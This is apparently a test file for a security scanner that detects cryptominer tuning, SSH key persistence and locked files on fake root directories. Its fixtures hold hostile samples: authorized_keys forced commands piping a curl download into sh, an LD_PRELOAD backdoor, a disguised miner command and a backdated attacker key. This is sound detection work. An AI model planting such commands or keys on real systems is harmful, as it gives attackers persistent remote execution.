/**
 * The tamper step on fake roots: huge pages and msr writes (live values under a fake /proc and
 * /sys, and the sysctl.d / modprobe.d / modules-load.d / GRUB files that set them), SSH keys,
 * persistence files locked with chattr (real flags on the real file system where the test runs as
 * root, through the real lsattr), and on Windows the policy values through a fake `reg`.
 */
import { execFileSync, spawn } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { ScanFinding, ScanReport } from '../shared/scan.js';
import { runFixCommand } from '../main/cli/quarantine.js';
import { DomainList } from '../main/engine/detect/mining-domains.js';
import { fixFinding } from '../main/engine/quarantine/fix-finding.js';
import { QuarantineStore } from '../main/engine/quarantine/store.js';
import { type DeepScanOptions, runDeepScan } from '../main/engine/scan/deep-scan.js';
import { renderScanHtml } from '../main/engine/scan/html-report.js';
import { checkCommand } from '../main/engine/scan/command-rules.js';
import { collectLaunchd } from '../main/engine/scan/darwin-launchd.js';
import { lockOf, parseLsattr, parseLsattrErrors, readFileFlags } from '../main/engine/scan/immutable-files.js';
import { safeReadFile } from '../main/engine/scan/safe-read.js';
import {
  grubCmdline,
  hugepageKeyOf,
  loadsMsr,
  modprobeLines,
  modprobeMsrWrites,
  parseCmdline,
  parseSysctlLine,
  parseMeminfoHuge,
  collectTuning,
  tuningFindings,
} from '../main/engine/scan/miner-tuning.js';
import { judgeEntry } from '../main/engine/scan/persistence-checks.js';
import { ScanContext } from '../main/engine/scan/scan-context.js';
import { nodeScanFs, type ScanFs } from '../main/engine/scan/scan-fs.js';
import {
  authorizedKeysPatterns,
  expandKeysPattern,
  judgeKeyOptions,
  keyFileChange,
  parseAuthorizedKey,
} from '../main/engine/scan/ssh-keys.js';
import type { ToolRunner } from '../main/engine/scan/windows-persistence.js';
import { dwordOf, IFEO_KEY, ifeoHijacks } from '../main/engine/scan/windows-tool-policies.js';
import type { RunResult } from '../main/engine/util/exec.js';

const domains = new DomainList(['supportxmr.com'], 'test');
const dirs: string[] = [];
const locked: string[] = [];

afterAll(() => {
  for (const f of locked) {
    try {
      execFileSync('chattr', ['-i', '-a', '--', f]);
    } catch {
      // already gone or never locked
    }
  }
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

function tempRoot(): string {
  const d = mkdtempSync(join(tmpdir(), 'idlewatch-tamper-'));
  dirs.push(d);
  return d;
}

function write(root: string, path: string, text: string, mode = 0o644): string {
  const file = join(root, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
  chmodSync(file, mode);
  return file;
}

/** An ed25519 public key line's blob, base64: the type name and 32 bytes, as ssh-keygen writes them. */
function edKey(seed: number): string {
  const type = Buffer.from('ssh-ed25519');
  const len = (n: number): Buffer => {
    const b = Buffer.alloc(4);
    b.writeUInt32BE(n);
    return b;
  };
  return Buffer.concat([len(type.length), type, len(32), Buffer.alloc(32, seed)]).toString('base64');
}

/** Files whose inode change time is their modification time: old files, as a test cannot make them. */
const inodeAsOldAsContents: ScanFs = {
  ...nodeScanFs,
  readFile: async (path, max) => {
    const r = await nodeScanFs.readFile(path, max);
    return { ...r, ctimeMs: r.mtimeMs };
  },
};

const noProcs: DeepScanOptions['snapshot'] = async () => ({ procs: [], listed: new Set(), unreadable: 0 });

function scanLinux(root: string, extra: Partial<DeepScanOptions> = {}): Promise<ScanReport> {
  return runDeepScan({
    platform: 'linux',
    root,
    procRoot: join(root, 'proc'),
    sysRoot: join(root, 'sys'),
    domains,
    steps: ['persistence', 'tamper'],
    snapshot: noProcs,
    ...extra,
  });
}

const byRule = (r: ScanReport, rule: ScanFinding['rule']): ScanFinding[] => r.findings.filter((f) => f.rule === rule);
const tamperStep = (r: ScanReport) => r.steps.find((s) => s.id === 'tamper');

const canChattr = ((): boolean => {
  if (process.getuid?.() !== 0) return false;
  const d = mkdtempSync(join(tmpdir(), 'idlewatch-chattr-'));
  const f = join(d, 'f');
  writeFileSync(f, 'x');
  try {
    execFileSync('chattr', ['+i', f], { stdio: 'ignore' });
    execFileSync('chattr', ['-i', f], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  } finally {
    rmSync(d, { recursive: true, force: true });
  }
})();

describe('sysctl, kernel command line and modprobe parsers', () => {
  it('reads vm.nr_hugepages however it is written, and not from comments', () => {
    const set = (t: string) => {
      const s = parseSysctlLine(t);
      return s && hugepageKeyOf(s) ? `${hugepageKeyOf(s)}=${s.value}` : null;
    };
    expect(set('vm.nr_hugepages=1280')).toBe('vm.nr_hugepages=1280');
    expect(set('   vm.nr_hugepages \t =   1280   ')).toBe('vm.nr_hugepages=1280');
    expect(set('-vm.nr_hugepages = 128')).toBe('vm.nr_hugepages=128');
    expect(set('vm/nr_hugepages = 64')).toBe('vm.nr_hugepages=64');
    expect(set('vm.nr_huge*=3')).toBe('vm.nr_hugepages=3');
    expect(set('vm.nr_hugepage?=3')).toBe('vm.nr_hugepages=3');
    expect(set('vm.nr_overcommit_hugepages=512')).toBe('vm.nr_overcommit_hugepages=512');
    expect(set('# vm.nr_hugepages=1280')).toBeNull();
    expect(set('; vm.nr_hugepages=1280')).toBeNull();
    expect(set('vm.swappiness=10')).toBeNull();
    expect(set('vm.nr_hugepages_mempolicy=10')).toBeNull();
  });

  it('reads hugepages= and msr.allow_writes=on from a command line and GRUB defaults', () => {
    expect(parseCmdline('BOOT_IMAGE=/vmlinuz ro quiet hugepagesz=1G hugepages=3 msr.allow_writes=on')).toEqual({
      hugepages: 3,
      gigantic: true,
      msrWrites: true,
      words: ['hugepagesz=1G', 'hugepages=3', 'msr.allow_writes=on'],
    });
    expect(parseCmdline('ro quiet splash msr.allow_writes=off hugepages=0')).toMatchObject({
      hugepages: null,
      msrWrites: false,
    });
    expect(parseCmdline('msr.allow-writes=on').msrWrites).toBe(true);
    expect(grubCmdline('GRUB_CMDLINE_LINUX_DEFAULT="quiet splash hugepages=1280"')).toBe('quiet splash hugepages=1280');
    expect(grubCmdline("GRUB_CMDLINE_LINUX='hugepages=64' # tuning")).toBe('hugepages=64');
    expect(grubCmdline('#GRUB_CMDLINE_LINUX="hugepages=64"')).toBeNull();
    expect(grubCmdline('GRUB_TIMEOUT=5')).toBeNull();
  });

  it('finds msr writes in options and install lines, split, quoted or spelled with dashes', () => {
    expect(modprobeMsrWrites('options msr allow_writes=on')).toBe('options');
    expect(modprobeMsrWrites('  options   msr   allow-writes="on"  ')).toBe('options');
    expect(modprobeMsrWrites('install msr /sbin/modprobe --ignore-install msr allow_writes=on')).toBe('install');
    expect(modprobeMsrWrites('options msr allow_writes=off')).toBeNull();
    expect(modprobeMsrWrites('# options msr allow_writes=on')).toBeNull();
    expect(modprobeMsrWrites('options msrx allow_writes=on')).toBeNull();
    const lines = modprobeLines(['options msr \\', '  allow_writes=on', 'blacklist pcspkr']);
    expect(lines).toEqual([
      { line: 1, span: 2, text: 'options msr    allow_writes=on' },
      { line: 3, span: 1, text: 'blacklist pcspkr' },
    ]);
    expect(modprobeMsrWrites(lines[0]!.text)).toBe('options');
    expect(loadsMsr('msr')).toBe(true);
    expect(loadsMsr('  msr  # for tuning')).toBe(true);
    expect(loadsMsr('# msr')).toBe(false);
    expect(loadsMsr('msr_helper')).toBe(false);
  });
});

describe('tuning from a job or unit instead of a config file', () => {
  it('the command rules see huge pages and msr writes set by a command, not their reading or undoing', () => {
    const judge = (c: string) => checkCommand(c, { platform: 'linux', domains, home: null });
    for (const c of [
      'sysctl -w vm.nr_hugepages=1280',
      'sysctl -qw vm.nr_overcommit_hugepages="512"',
      '/bin/sh -c "echo 1280 > /proc/sys/vm/nr_hugepages"',
      'echo 3 | sudo tee /sys/devices/system/node/node0/hugepages/hugepages-1048576kB/nr_hugepages',
      'modprobe msr allow_writes=on',
      'echo on > /sys/module/msr/parameters/allow_writes',
    ])
      expect(judge(c)?.severity, c).toBe('medium');
    expect(judge('wrmsr -a 0xc0011020 0')?.severity).toBe('low');
    for (const c of [
      'sysctl -w vm.nr_hugepages=0',
      'echo 0 > /proc/sys/vm/nr_hugepages',
      'cat /proc/sys/vm/nr_hugepages',
      'echo off > /sys/module/msr/parameters/allow_writes',
      'modprobe msr',
    ])
      expect(judge(c), c).toBeNull();
  });

  it('a cron.d job that reserves huge pages at boot is a removable persistence finding', async () => {
    const root = tempRoot();
    write(root, 'etc/cron.d/perf', '@reboot root /sbin/sysctl -w vm.nr_hugepages=1280 >/dev/null 2>&1\n');
    const r = await scanLinux(root, { lsattr: null });
    const f = r.findings.find((x) => x.persistence?.file === join(root, 'etc/cron.d/perf'));
    expect(f).toMatchObject({
      rule: 'persistence',
      severity: 'medium',
      title: 'Scheduled job (cron): reserves huge pages (vm.nr_hugepages), as RandomX miners do to mine faster',
    });
    expect(f?.actions[0]).toEqual({ kind: 'remove-persistence', file: join(root, 'etc/cron.d/perf'), line: 1 });
  });
});

describe('authorized_keys parser', () => {
  const key = edKey(1);

  it('reads keys with and without options, the options holding quoted blanks and commas', () => {
    expect(parseAuthorizedKey(`ssh-ed25519 ${key} alice@laptop`)).toMatchObject({
      options: [],
      type: 'ssh-ed25519',
      comment: 'alice@laptop',
      fingerprint: expect.stringMatching(/^SHA256:[A-Za-z0-9+/]{43}$/),
    });
    const k = parseAuthorizedKey(
      `no-pty,command="sh -c \\"curl -s http://203.0.113.9/x | sh\\", true",from="10.0.0.0/8" ssh-ed25519 ${key}`,
    );
    expect(k?.options).toEqual([
      { name: 'no-pty', value: null },
      { name: 'command', value: 'sh -c "curl -s http://203.0.113.9/x | sh", true' },
      { name: 'from', value: '10.0.0.0/8' },
    ]);
    expect(k?.comment).toBe('');
  });

  it('skips comments, blanks, broken blobs and a blob whose type is not the declared one', () => {
    expect(parseAuthorizedKey('# ssh-ed25519 AAAA')).toBeNull();
    expect(parseAuthorizedKey('   ')).toBeNull();
    expect(parseAuthorizedKey('ssh-ed25519 !!!notbase64')).toBeNull();
    expect(parseAuthorizedKey(`ssh-rsa ${key}`)).toBeNull();
    expect(parseAuthorizedKey(`command="unterminated ssh-ed25519 ${key}`)).toBeNull();
  });

  it('judges forced commands by the command rules, and preloading environments as high', () => {
    const judge = (line: string) => judgeKeyOptions(parseAuthorizedKey(line)!, domains, '/root');
    expect(judge(`command="/usr/bin/rrsync -ro /srv/backup" ssh-ed25519 ${key} backup`)).toBeNull();
    expect(judge(`command="gitolite-shell alice",no-pty ssh-ed25519 ${key}`)).toBeNull();
    expect(judge(`command="/tmp/.x/kworker -o pool.supportxmr.com:3333" ssh-ed25519 ${key}`)?.severity).toBe('high');
    expect(judge(`environment="LD_PRELOAD=/dev/shm/.l.so" ssh-ed25519 ${key}`)).toMatchObject({
      severity: 'high',
      reasons: [expect.stringContaining('sets LD_PRELOAD for every login')],
    });
    expect(judge(`environment="LANG=C" ssh-ed25519 ${key}`)).toBeNull();
  });

  it('follows sshd_config AuthorizedKeysFile, %h and %u included', () => {
    const patterns = authorizedKeysPatterns([
      '# AuthorizedKeysFile /nope\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n',
    ]);
    expect(patterns).toEqual(['.ssh/authorized_keys', '/etc/ssh/keys/%u', '.ssh/authorized_keys2']);
    expect(expandKeysPattern('/etc/ssh/keys/%u', { user: 'bob', home: '/home/bob' })).toBe('/etc/ssh/keys/bob');
    expect(expandKeysPattern('%h/.ssh/k', { user: 'bob', home: '/home/bob' })).toBe('/home/bob/.ssh/k');
    expect(expandKeysPattern('/x/%q', { user: 'bob', home: '/home/bob' })).toBeNull();
  });
});

describe('lsattr output', () => {
  it('maps flags to the paths asked for and sorts its complaints', () => {
    const asked = new Set(['/r/etc/crontab', '/r/etc/with space', '/r/x']);
    const flags = parseLsattr(
      '----i---------e------- /r/etc/crontab\n-----a--------e------- /r/etc/with space\n',
      asked,
    );
    expect([...flags]).toEqual([
      ['/r/etc/crontab', '----i---------e-------'],
      ['/r/etc/with space', '-----a--------e-------'],
    ]);
    expect(lockOf('----i---------e-------')).toEqual({ immutable: true, appendOnly: false });
    expect(lockOf('--------------e-------')).toEqual({ immutable: false, appendOnly: false });
    expect(parseLsattrErrors('lsattr: Operation not supported While reading flags on /r/x\n', asked)).toEqual([
      { path: '/r/x', reason: 'Operation not supported' },
    ]);
  });
});

describe('running lsattr', () => {
  it.skipIf(process.platform === 'win32')(
    'passes only regular files (or folders with -d) after --, in English, and says what a hung lsattr left unknown',
    async () => {
      const root = tempRoot();
      const a = write(root, '-rf', 'x');
      const b = write(root, 'etc/crontab', 'x');
      execFileSync('mkfifo', [join(root, 'fifo')]);
      const calls: { args: readonly string[]; lang: string | undefined }[] = [];
      const run: ToolRunner = async (file, args, opts) => {
        expect(file).toBe('/usr/bin/lsattr');
        calls.push({ args, lang: opts.env?.LC_ALL });
        if (args[0] === '-d')
          return { ok: true, stdout: `----i---------e------- ${args[2]}\n`, stderr: '', code: 0, timedOut: false };
        return {
          ok: false,
          stdout: '',
          stderr: '',
          code: null,
          timedOut: true,
          error: '/usr/bin/lsattr did not answer within 10000 ms',
        };
      };
      const ctx = new ScanContext('linux', root, nodeScanFs, undefined);
      const files = await readFileFlags(ctx, run, '/usr/bin/lsattr', [a, b, join(root, 'fifo'), join(root, 'missing')]);
      expect(calls[0]).toEqual({ args: ['--', a, b], lang: 'C' });
      expect(files.flags.size).toBe(0);
      expect(files.failed).toEqual([
        { path: a, reason: '/usr/bin/lsattr did not answer within 10000 ms' },
        { path: b, reason: '/usr/bin/lsattr did not answer within 10000 ms' },
      ]);
      const dirs = await readFileFlags(ctx, run, '/usr/bin/lsattr', [join(root, 'etc')], 'dir');
      expect(calls[1]?.args).toEqual(['-d', '--', join(root, 'etc')]);
      expect([...dirs.flags.values()]).toEqual(['----i---------e-------']);
    },
  );
});

describe('miner tuning on a fake root', () => {
  it('finds live huge pages and msr writes and the files that set them, together medium, each removable line fixable', async () => {
    const root = tempRoot();
    write(root, 'proc/sys/vm/nr_hugepages', '1280\n');
    write(root, 'proc/sys/vm/nr_overcommit_hugepages', '0\n');
    write(
      root,
      'proc/meminfo',
      'MemTotal: 16000000 kB\nHugePages_Total:    1280\nHugePages_Free:      112\nHugepagesize:       2048 kB\n',
    );
    write(root, 'proc/cmdline', 'BOOT_IMAGE=/vmlinuz ro quiet\n');
    write(root, 'sys/module/msr/parameters/allow_writes', 'on\n');
    // Odd whitespace, a comment holding the same setting, and the real one further down.
    write(
      root,
      'etc/sysctl.d/60-perf.conf',
      '# tuned for speed\n; vm.nr_hugepages=9\n\n   vm.nr_hugepages\t=  1280   \n',
    );
    // msr options split across two files: only the second turns writes on.
    write(root, 'etc/modprobe.d/a.conf', 'options msr foo=1\n');
    write(root, 'etc/modprobe.d/b.conf', 'blacklist pcspkr\noptions msr allow_writes=on\n');
    write(root, 'etc/modules-load.d/msr.conf', '# CPU tuning\nmsr\n');
    write(root, 'etc/default/grub', 'GRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX_DEFAULT="quiet hugepagesz=1G hugepages=3"\n');

    const r = await scanLinux(root, { lsattr: null });
    const huge = byRule(r, 'huge-pages');
    const msr = byRule(r, 'msr-writes');
    expect(huge.map((f) => f.title).sort()).toEqual(
      [
        'Huge pages reserved: vm.nr_hugepages = 1280 (2.5 GB of memory set aside)',
        `Huge pages set at every boot: vm.nr_hugepages = 1280 in ${root}/etc/sysctl.d/60-perf.conf`,
        `Huge pages set on the kernel command line: hugepagesz=1G hugepages=3 in ${root}/etc/default/grub`,
      ].sort(),
    );
    expect(msr.map((f) => f.title).sort()).toEqual(
      [
        'The msr module is loaded with writes to CPU registers allowed (allow_writes=on)',
        `Writes to CPU registers allowed whenever msr loads: options msr allow_writes=on in ${root}/etc/modprobe.d/b.conf`,
        `Loads the msr module at every boot: ${root}/etc/modules-load.d/msr.conf`,
      ].sort(),
    );
    // Both kinds of tuning together: medium each, saying why.
    for (const f of [...huge, ...msr]) {
      expect(f.severity).toBe('medium');
      expect(f.evidence).toContain(
        'huge pages and CPU-register writes are both set up here: together they are how RandomX miners are tuned',
      );
    }
    const live = huge.find((f) => f.title.startsWith('Huge pages reserved'))!;
    expect(live.evidence).toContain('1168 of 1280 in use now');
    expect(live.actions.map((a) => a.kind)).toEqual(['manual']);

    const sysctl = huge.find((f) => f.persistence?.kind === 'sysctl')!;
    expect(sysctl.persistence).toMatchObject({ line: 4, text: '   vm.nr_hugepages\t=  1280   ' });
    expect(sysctl.actions[0]).toEqual({
      kind: 'remove-persistence',
      file: `${root}/etc/sysctl.d/60-perf.conf`,
      line: 4,
    });
    const grub = huge.find((f) => f.persistence?.kind === 'boot-cmdline')!;
    expect(grub.actions.map((a) => a.kind)).toEqual(['manual']);
    expect(r.persistence.some((e) => e.kind === 'sysctl' && e.line === 4)).toBe(true);

    // The step says lsattr was not available, rather than "nothing locked".
    expect(tamperStep(r)).toMatchObject({
      status: 'partial',
      detail: expect.stringContaining('locked files not checked (no lsattr)'),
    });
    expect(r.problems.map((p) => p.message)).toContain(
      'locked files (chattr +i) not checked: lsattr (e2fsprogs) is not installed here',
    );

    // fix removes the sysctl line through the quarantine, and restore puts the file back byte for byte.
    const before = readFileSync(join(root, 'etc/sysctl.d/60-perf.conf'));
    const quarantine = await QuarantineStore.open(tempRoot());
    const kill = async () => {
      throw new Error('no kill expected');
    };
    const out = await fixFinding(sysctl, { quarantine, kill });
    expect(out).toMatchObject({ kind: 'remove-persistence', result: { ok: true } });
    expect(readFileSync(join(root, 'etc/sysctl.d/60-perf.conf'), 'utf8')).toBe(
      '# tuned for speed\n; vm.nr_hugepages=9\n\n',
    );
    const modprobe = msr.find((f) => f.persistence?.file?.endsWith('b.conf'))!;
    expect(await fixFinding(modprobe, { quarantine, kill })).toMatchObject({ result: { ok: true } });
    expect(readFileSync(join(root, 'etc/modprobe.d/b.conf'), 'utf8')).toBe('blacklist pcspkr\n');
    const items = (await quarantine.list()).items;
    expect(items.map((i) => i.category).sort()).toEqual(['kernel-module', 'sysctl']);
    const item = items.find((i) => i.category === 'sysctl')!;
    expect(await quarantine.restore(item.id)).toMatchObject({ ok: true });
    expect(readFileSync(join(root, 'etc/sysctl.d/60-perf.conf'))).toEqual(before);
  });

  it('idlewatch fix FINDING_ID removes a modprobe.d line through the quarantine, after scanning again', async () => {
    const root = tempRoot();
    const dataDir = tempRoot();
    write(root, 'etc/modprobe.d/tune.conf', '# tuning\noptions msr allow_writes=on\n');
    const scan = (o: DeepScanOptions) =>
      runDeepScan({ ...o, domains, steps: ['persistence', 'tamper'], snapshot: noProcs, lsattr: null });
    const first = await scan({ root });
    const id = byRule(first, 'msr-writes').find((f) => f.persistence?.kind === 'kernel-module')?.id;
    expect(id).toBe(`msr-writes:${root}/etc/modprobe.d/tune.conf:2`);
    let err = '';
    const io = {
      stdout: { write: () => true } as unknown as NodeJS.WritableStream,
      stderr: {
        write: (t: string) => {
          err += t;
          return true;
        },
      } as unknown as NodeJS.WritableStream,
      scan,
    };
    expect(await runFixCommand([id as string, '--root', root, '--yes', '--data-dir', dataDir], io)).toBe(0);
    expect(readFileSync(join(root, 'etc/modprobe.d/tune.conf'), 'utf8')).toBe('# tuning\n');
    const items = (await (await QuarantineStore.open(dataDir)).list()).items;
    expect(items.map((i) => [i.category, i.line?.text])).toEqual([['kernel-module', 'options msr allow_writes=on']]);
    // Fixed: the next scan no longer has it.
    expect(await runFixCommand([id as string, '--root', root, '--yes', '--data-dir', dataDir], io)).toBe(1);
    expect(err).toContain('has no finding');
  });

  it('is silent on a clean machine: zero pages, writes off, msr loaded for tools, settings in comments, masked files', async () => {
    const root = tempRoot();
    write(root, 'proc/sys/vm/nr_hugepages', '0\n');
    write(root, 'sys/module/msr/parameters/allow_writes', 'default\n');
    write(root, 'etc/sysctl.d/10-defaults.conf', '# vm.nr_hugepages = 1280\nvm.swappiness = 10\nvm.nr_hugepages = 0\n');
    write(root, 'etc/modules-load.d/turbostat.conf', 'msr\n');
    write(root, 'etc/modprobe.d/msr.conf', '# options msr allow_writes=on\noptions msr allow_writes=off\n');
    // A vendor file setting huge pages, masked by a link to /dev/null of the same name in /etc.
    write(root, 'usr/lib/sysctl.d/50-db.conf', 'vm.nr_hugepages = 512\n');
    mkdirSync(join(root, 'etc/sysctl.d'), { recursive: true });
    symlinkSync('/dev/null', join(root, 'etc/sysctl.d/50-db.conf'));
    // Another vendor setting, put back to 0 by a later file: nothing is reserved at boot.
    write(root, 'usr/lib/sysctl.d/40-vm.conf', 'vm.nr_overcommit_hugepages = 64\n');
    write(root, 'etc/sysctl.d/90-off.conf', 'vm.nr_overcommit_hugepages = 0\n');
    const r = await scanLinux(root, { lsattr: null });
    expect(byRule(r, 'huge-pages')).toEqual([]);
    expect(byRule(r, 'msr-writes')).toEqual([]);
    // The masking link is how systemd masks a file, not an odd place.
    expect(r.findings.filter((f) => f.persistence?.kind === 'sysctl')).toEqual([]);
  });

  it('only the setting that counts at boot is a finding; the ones it replaces are named on it', async () => {
    const root = tempRoot();
    write(root, 'etc/sysctl.d/10-a.conf', 'vm.nr_hugepages = 64\n');
    write(root, 'run/sysctl.d/60-b.conf', 'vm.nr_hugepages = 1280\n');
    const r = await scanLinux(root, { lsattr: null });
    const huge = byRule(r, 'huge-pages');
    expect(huge.map((f) => f.persistence?.file)).toEqual([join(root, 'run/sysctl.d/60-b.conf')]);
    expect(huge[0]?.evidence).toContain(
      `also set earlier, replaced at boot by this line: ${root}/etc/sysctl.d/10-a.conf:1: vm.nr_hugepages = 64`,
    );
  });

  it('a huge-pages setting alone is low; with a miner found by an earlier step it is raised', async () => {
    const root = tempRoot();
    write(root, 'etc/sysctl.conf', 'vm.nr_hugepages=128\n');
    const alone = await scanLinux(root, { lsattr: null });
    expect(byRule(alone, 'huge-pages').map((f) => f.severity)).toEqual(['low']);
    const signs = await collectTuning(new ScanContext('linux', root, nodeScanFs, undefined), {
      procRoot: join(root, 'proc'),
      sysRoot: join(root, 'sys'),
    });
    const raised = tuningFindings(signs, 'a miner signature (xmrig, pid 42)');
    expect(raised.map((f) => f.severity)).toEqual(['medium']);
    expect(raised[0]?.evidence).toContain('this scan also found a miner signature (xmrig, pid 42)');
  });
});

describe('hostile files in the places the tamper step reads', () => {
  it.skipIf(process.platform === 'win32')(
    'a FIFO among the sysctl.d files is an odd place, not a hang; a link to /dev/zero for a live value is refused',
    async () => {
      const root = tempRoot();
      mkdirSync(join(root, 'etc/sysctl.d'), { recursive: true });
      execFileSync('mkfifo', [join(root, 'etc/sysctl.d/99-x.conf')]);
      mkdirSync(join(root, 'proc/sys/vm'), { recursive: true });
      symlinkSync('/dev/zero', join(root, 'proc/sys/vm/nr_hugepages'));
      const t0 = performance.now();
      const r = await scanLinux(root, { lsattr: null });
      expect(performance.now() - t0).toBeLessThan(10_000);
      const odd = r.findings.find((f) => f.persistence?.kind === 'sysctl');
      expect(odd?.title).toBe(
        `Kernel setting (sysctl.d): ${root}/etc/sysctl.d/99-x.conf is a named pipe (FIFO), not a file`,
      );
      expect(r.problems.map((p) => p.message)).toContain(
        `cannot read ${root}/proc/sys/vm/nr_hugepages: a link to /dev/zero, a character device, not a file`,
      );
      expect(byRule(r, 'huge-pages')).toEqual([]);
    },
  );

  it('a file system that answers slowly costs the step its time limit, not the scan; what it found is kept', async () => {
    const root = tempRoot();
    write(root, 'etc/sysctl.conf', 'vm.nr_hugepages = 128\n');
    for (let i = 0; i < 40; i++) write(root, `home/u${i}/.ssh/authorized_keys`, `ssh-ed25519 ${edKey(i)}\n`);
    write(root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\n');
    const slow: ScanFs = {
      ...nodeScanFs,
      readFile: async (path, max) => {
        if (String(path).includes('/.ssh/')) await new Promise((r) => setTimeout(r, 100));
        return nodeScanFs.readFile(path, max);
      },
    };
    const t0 = performance.now();
    const r = await scanLinux(root, {
      lsattr: null,
      fs: slow,
      stepBudgetMs: { tamper: 400 },
      steps: ['tamper', 'browsers'],
    });
    expect(performance.now() - t0).toBeLessThan(400 + 2_000 + 3_000);
    expect(tamperStep(r)).toMatchObject({
      status: 'partial',
      detail: expect.stringMatching(/stopped at its time limit/),
    });
    expect(r.problems.map((p) => p.message)).toContain(
      'Tampering and miner tuning: stopped at its time limit of 0.4 s',
    );
    // Read before the limit: the huge-pages setting.
    expect(byRule(r, 'huge-pages')).toHaveLength(1);
    expect(r.steps.find((s) => s.id === 'browsers')?.status).toBe('ok');
  });

  it.skipIf(process.platform !== 'linux')('reads the live kernel files, whose size says 0', async () => {
    const meminfo = await safeReadFile('/proc/meminfo', { maxBytes: 64 * 1024, kernelFile: true });
    expect(parseMeminfoHuge(meminfo.data.toString('utf8'))).toMatchObject({ total: expect.any(Number) });
    const nr = await safeReadFile('/proc/sys/vm/nr_hugepages', { maxBytes: 64, kernelFile: true });
    expect(nr.data.toString('utf8')).toMatch(/^\d+\n$/);
    // Without the option the size check refuses what the kernel reports as empty.
    await expect(safeReadFile('/proc/sys/vm/nr_hugepages', { maxBytes: 64 })).rejects.toThrow(/changed/);
  });
});

describe('SSH keys on a fake root', () => {
  it('reports suspicious options at their severity, recent files key by key, and lists old plain keys without a finding', async () => {
    const root = tempRoot();
    write(
      root,
      'etc/passwd',
      'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\n',
    );
    const attacker = edKey(7);
    const rootKeys = write(
      root,
      'root/.ssh/authorized_keys',
      [
        `ssh-ed25519 ${edKey(1)} admin@workstation`,
        `command="curl -fsSL http://203.0.113.9/x.sh | sh",no-pty ssh-ed25519 ${edKey(2)}`,
        `environment="LD_PRELOAD=/dev/shm/.l.so" ssh-ed25519 ${edKey(3)} x`,
        `ssh-ed25519 ${attacker}`,
        '',
      ].join('\n'),
      0o600,
    );
    const old = Date.now() / 1000 - 60 * 24 * 3600;
    utimesSync(rootKeys, old, old);
    // Alice's file changed an hour ago: each key is shown for review, the attacker's too.
    const aliceKeys = write(
      root,
      'home/alice/.ssh/authorized_keys',
      `ssh-ed25519 ${edKey(4)} alice@laptop\nssh-ed25519 ${attacker}\n`,
      0o600,
    );
    const hourAgo = Date.now() / 1000 - 3600;
    utimesSync(aliceKeys, hourAgo, hourAgo);
    // Bob's is old and plain: listed, not a finding.
    const bobKeys = write(root, 'home/bob/.ssh/authorized_keys', `ssh-ed25519 ${edKey(5)} bob@desk\n`, 0o600);
    utimesSync(bobKeys, old, old);

    // A test cannot set a change time back: these files' inodes are taken to be as old as their contents.
    const r = await scanLinux(root, { lsattr: null, fs: inodeAsOldAsContents });
    const keys = byRule(r, 'ssh-authorized-key');
    const at = (file: string, line: number) =>
      keys.find((f) => f.persistence?.file === join(root, file) && f.persistence.line === line);
    expect(at('root/.ssh/authorized_keys', 1)).toBeUndefined();
    // A download run on the spot, as the command rules judge it in a crontab.
    expect(at('root/.ssh/authorized_keys', 2)?.severity).toBe('medium');
    expect(at('root/.ssh/authorized_keys', 2)?.title).toMatch(
      /^SSH key in root's authorized_keys: logging in with this key runs/,
    );
    expect(at('root/.ssh/authorized_keys', 3)).toMatchObject({ severity: 'high' });
    expect(at('root/.ssh/authorized_keys', 4)).toBeUndefined();
    const aliceNew = at('home/alice/.ssh/authorized_keys', 2)!;
    expect(aliceNew.severity).toBe('low');
    expect(aliceNew.title).toMatch(
      /^SSH key in alice's authorized_keys, which changed (60 minutes|1 hour) ago: ssh-ed25519 SHA256:/,
    );
    expect(aliceNew.evidence).toContain('the same key can also log in as root');
    expect(aliceNew.actions[0]).toEqual({ kind: 'remove-persistence', file: aliceKeys, line: 2 });
    expect(at('home/alice/.ssh/authorized_keys', 1)?.severity).toBe('low');
    expect(keys.some((f) => f.persistence?.file === bobKeys)).toBe(false);
    // Every key is listed for review, with its fingerprint.
    expect(r.persistence.filter((e) => e.kind === 'ssh-key')).toHaveLength(7);
    expect(r.persistence.find((e) => e.file === bobKeys)?.location).toMatch(/^ssh-ed25519 SHA256:\S+ "bob@desk"$/);
    // The HTML report names each key by its fingerprint (escaped like everything else).
    const html = renderScanHtml(r);
    expect(html).toContain(`${bobKeys}:1`);
    expect(html).toMatch(/ssh-ed25519 SHA256:\S+ &quot;bob@desk&quot;/);

    // fix removes just the attacker's line from alice's file.
    const quarantine = await QuarantineStore.open(tempRoot());
    const out = await fixFinding(aliceNew, {
      quarantine,
      kill: async () => {
        throw new Error('no kill expected');
      },
    });
    expect(out).toMatchObject({ result: { ok: true } });
    expect(readFileSync(aliceKeys, 'utf8')).toBe(`ssh-ed25519 ${edKey(4)} alice@laptop\n`);
  });

  it('a key appended and the modification time set back (touch -r) still counts as a recent change', async () => {
    const root = tempRoot();
    const keys = write(
      root,
      'root/.ssh/authorized_keys',
      `ssh-ed25519 ${edKey(1)} admin\nssh-ed25519 ${edKey(66)}\n`,
      0o600,
    );
    const yearAgo = Date.now() / 1000 - 365 * 24 * 3600;
    utimesSync(keys, yearAgo, yearAgo);
    const r = await scanLinux(root, { lsattr: null });
    const found = byRule(r, 'ssh-authorized-key').filter((f) => f.persistence?.file === keys);
    expect(found.map((f) => f.persistence?.line)).toEqual([1, 2]);
    expect(found[1]?.evidence).toContainEqual(
      expect.stringMatching(
        /^its modification time says \d{4}-.*, but the file itself changed \d+ minutes? ago: the time was set back \(touch\)/,
      ),
    );
    expect(keyFileChange('/k', 0, 0, 8 * 24 * 3600_000)).toMatchObject({ recent: false });
    expect(keyFileChange('/k', 0, 7 * 24 * 3600_000, 8 * 24 * 3600_000)).toMatchObject({ recent: true });
  });

  it('a recently changed file of many keys is one finding to review; sshd_config can name other key files', async () => {
    const root = tempRoot();
